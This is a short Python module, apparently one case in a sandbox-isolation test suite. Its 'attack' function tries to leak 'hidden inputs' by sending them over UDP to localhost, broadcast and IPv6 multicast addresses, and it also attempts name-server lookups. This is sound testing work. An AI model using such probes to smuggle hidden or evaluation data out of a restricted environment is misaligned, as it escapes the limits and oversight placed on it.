"""Sends the hidden inputs by UDP, and asks name servers for them."""

import socket

from target import UDP, any_works


def attack(sentences, order):
    def send(family, address):
        socket.socket(family, socket.SOCK_DGRAM).sendto(str(sentences).encode(), address)

    return any_works(
        lambda: send(socket.AF_INET, ("127.0.0.1", UDP)),
        lambda: send(socket.AF_INET, ("255.255.255.255", 9)),
        lambda: send(socket.AF_INET6, ("ff02::1", 9)),
        lambda: socket.getaddrinfo("localhost.", UDP, type=socket.SOCK_DGRAM),
        lambda: socket.gethostbyname("www.example.org"),
    )
